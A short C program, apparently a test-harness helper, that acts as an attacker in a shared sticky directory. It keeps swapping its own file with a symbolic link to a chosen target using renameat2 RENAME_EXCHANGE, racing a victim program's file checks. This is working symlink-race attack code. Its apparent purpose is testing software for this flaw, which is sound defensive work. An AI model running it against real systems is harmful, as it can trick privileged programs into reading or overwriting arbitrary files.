// An attacker in a sticky directory that others may write. As another user, it keeps exchanging a file of its
// own and a symbolic link (RENAME_EXCHANGE), so that a program may judge the one and use the other.
//   arguments: directory, name, target of the link, user. Ends when its input does.
#define _GNU_SOURCE
#include <fcntl.h>
#include <grp.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

enum { kExchangesBetweenLooks = 16 };

static void fail(const char *what) {
  perror(what);
  exit(1);
}

static void make_file(const char *name) {
  unlink(name);
  const int file = open(name, O_CREAT | O_EXCL | O_WRONLY, 0644);
  if (file < 0) fail("open");
  close(file);
}

static void make_link(const char *target, const char *name) {
  unlink(name);
  if (symlink(target, name) != 0) fail("symlink");
}

static int is_link(const char *name) {
  struct stat found;
  return lstat(name, &found) == 0 && S_ISLNK(found.st_mode);
}

int main(int count, char **arguments) {
  if (count != 5) return 2;
  const char *name = arguments[2];
  const char *target = arguments[3];
  const unsigned user = (unsigned)atoi(arguments[4]);
  char other[256];
  snprintf(other, sizeof other, "%s-other", name);
  if (chdir(arguments[1]) != 0) fail("chdir");
  if (setgroups(0, NULL) != 0 || setgid(user) != 0 || setuid(user) != 0) fail("setuid");
  make_file(name);
  make_link(target, other);
  puts("ready");
  fflush(stdout);
  struct pollfd input = {0, POLLIN, 0};
  while (poll(&input, 1, 0) == 0) {
    for (int i = 0; i < kExchangesBetweenLooks; ++i) {
      // Fails if the victim has put a file of its own there.
      if (renameat2(AT_FDCWD, name, AT_FDCWD, other, RENAME_EXCHANGE) != 0) return 3;
    }
    // The victim may have replaced the link.
    if (!is_link(name) && !is_link(other)) make_link(target, other);
  }
  return 0;
}
